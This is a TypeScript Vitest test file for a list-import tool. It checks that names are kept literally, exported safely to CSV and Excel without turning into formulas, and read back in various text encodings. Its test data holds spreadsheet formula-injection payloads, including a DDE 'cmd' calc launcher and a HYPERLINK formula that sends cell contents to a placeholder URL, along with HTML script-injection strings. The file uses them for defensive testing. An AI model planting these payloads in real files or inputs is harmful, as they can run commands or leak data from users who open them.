import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import type { ListMapping } from '../../../src-shared/contract/lists'
import { openCore, type Core } from '../../support/core'
import { exported } from '../../support/exported'

let core: Core
beforeEach(async () => {
  core = openCore()
  await core.start()
})
afterEach(() => {
  core.close()
})

const FORMULAS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.org?"&A1,"Click")',
  '+1+cmd',
  '-2+3',
  '@SUM(A1:A9)',
  "'=1+1",
]
const HTML = [
  '<img src=x onerror=alert(1)>',
  '</td><script>alert(1)</script>',
  '&lt;b&gt; {name} @:refusals.stale',
]

const quoted = (text: string) => `"${text.replaceAll('"', '""')}"`

/** Imports a list as suggested, with what is chosen differently. */
async function imported(bytes: Uint8Array, chosen: Partial<ListMapping> = {}, allOrNothing = true) {
  const file = join(core.folder, 'list.csv')
  writeFileSync(file, bytes)
  const opened = await core.done('lists.open', {}, { file })
  const input = { file: opened.file, mapping: { ...opened.suggested, ...chosen } }
  const { hash, counts } = await core.done('lists.plan', input, { file })
  const applied = await core.request('lists.apply', { ...input, hash, allOrNothing }, { file })
  return { opened, counts, applied }
}

const list = (names: readonly string[]) =>
  new TextEncoder().encode(['Name,Country', ...names.map((name) => `${quoted(name)},DE`)].join('\n'))
const names = () =>
  core.raw('SELECT officialName FROM authority ORDER BY row').map((row) => String(row['officialName']))

describe('texts that are dangerous elsewhere', () => {
  it('are kept letter by letter: HTML and placeholders', async () => {
    await imported(list(HTML))
    expect(names()).toEqual(HTML)
  })

  it('are kept as text: formulas, without the apostrophe that lists put before them', async () => {
    await imported(list(FORMULAS))
    expect(names()).toEqual(FORMULAS.map((formula) => formula.replace(/^'/, '')))
  })

  it('leave as text in a CSV file, and come back from it as they were', async () => {
    await imported(list([...FORMULAS, ...HTML]))
    const before = names()
    const file = await exported(core, 'csv')
    const rows: string[][] = parse(readFileSync(file), { bom: true, delimiter: ';' })
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/)
    const columns =
      rows[0]?.map((name) =>
        name === 'Official name' ? 'officialName' : name === 'Member State' ? 'memberState' : null,
      ) ?? []
    expect((await imported(readFileSync(file), { columns: columns })).counts).toMatchObject({
      unchanged: before.length,
      new: 0,
      error: 0,
    })
  })

  it('come back from a CSV file as they were even where they begin with an apostrophe', async () => {
    await imported(list(["''=1+1", "'tHoff", "''' quoted"]))
    expect(names()).toEqual(["'=1+1", "'tHoff", "''' quoted"])
    const file = await exported(core, 'csv')
    const columns = ['officialName' as const, null, 'memberState' as const]
    expect((await imported(readFileSync(file), { columns })).counts).toMatchObject({ unchanged: 3, new: 0 })
  })

  it('leave as texts in a workbook, none as a formula', async () => {
    // The library that reads it here takes entities of such cells apart twice; LibreOffice (test/interop) does not.
    await imported(list([...FORMULAS, ...HTML.filter((text) => !text.includes('&'))]))
    const book = new ExcelJS.Workbook()
    await book.xlsx.readFile(await exported(core, 'xlsx'))
    const sheet = book.worksheets[0]
    const told: unknown[] = []
    sheet?.eachRow((row, number) => {
      if (number > 1) told.push(row.getCell(1).value)
      row.eachCell((cell) => {
        expect(cell.type).not.toBe(ExcelJS.ValueType.Formula)
      })
    })
    expect(told.sort()).toEqual(names().sort())
  })

  it('leave as text in the file of failed rows, the names of columns included', async () => {
    const bytes = new TextEncoder().encode('Name,Country,"=cmd|\' /C calc\'!A0"\n,DE,=1+1\n')
    const { opened } = await imported(bytes)
    const file = join(core.folder, 'failed.csv')
    await core.done('lists.saveFailed', { plan: opened.file }, { file })
    const rows: string[][] = parse(readFileSync(file), { bom: true, delimiter: ';' })
    expect(rows).toEqual([
      ['Name', 'Country', "'=cmd|' /C calc'!A0", 'What is wrong'],
      ['', 'DE', "'=1+1", 'Name: there is no official name'],
    ])
  })

  it('stay in one cell in the file of failed rows, whichever line ends they hold', async () => {
    const cells = ['one\ntwo', 'one\r\ntwo', 'one\rtwo', '\tone', 'a;b', 'a,b']
    const bytes = new TextEncoder().encode(
      ['Name,Country,City', ...cells.map((cell) => `,DE,${quoted(cell)}`)].join('\n'),
    )
    const { opened } = await imported(bytes)
    const file = join(core.folder, 'failed.csv')
    await core.done('lists.saveFailed', { plan: opened.file }, { file })
    const again = await imported(readFileSync(file), {}, false)
    expect(again.opened).toMatchObject({ rowCount: cells.length, separator: ';' })
    expect(again.counts).toMatchObject({ error: cells.length })
  })
})

describe('a list in another encoding than it seems', () => {
  it.each([
    ['Windows-1252', 'windows-1252', [...Buffer.from('Name;Land\nK\xf6ln \x80;DE\n', 'latin1')], 'Köln €'],
    [
      'UTF-8 cut in the middle of a letter',
      'windows-1252',
      [...Buffer.from('Name;Land\nKöln;DE\nŁ').subarray(0, -1)],
      'KÃ¶ln',
    ],
    ['UTF-16 without its mark', 'utf-16le', [...Buffer.from('Name;Land\nKöln;DE\n', 'utf16le')], 'Köln'],
  ])(
    'is opened, and the encoding is told beside the first rows: %s',
    async (_case, encoding, bytes, name) => {
      const { opened } = await imported(Uint8Array.from(bytes), {}, false)
      expect(opened).toMatchObject({ encoding, columns: ['Name', 'Land'] })
      expect(opened.sample[0]?.[0]).toBe(name)
    },
  )
})
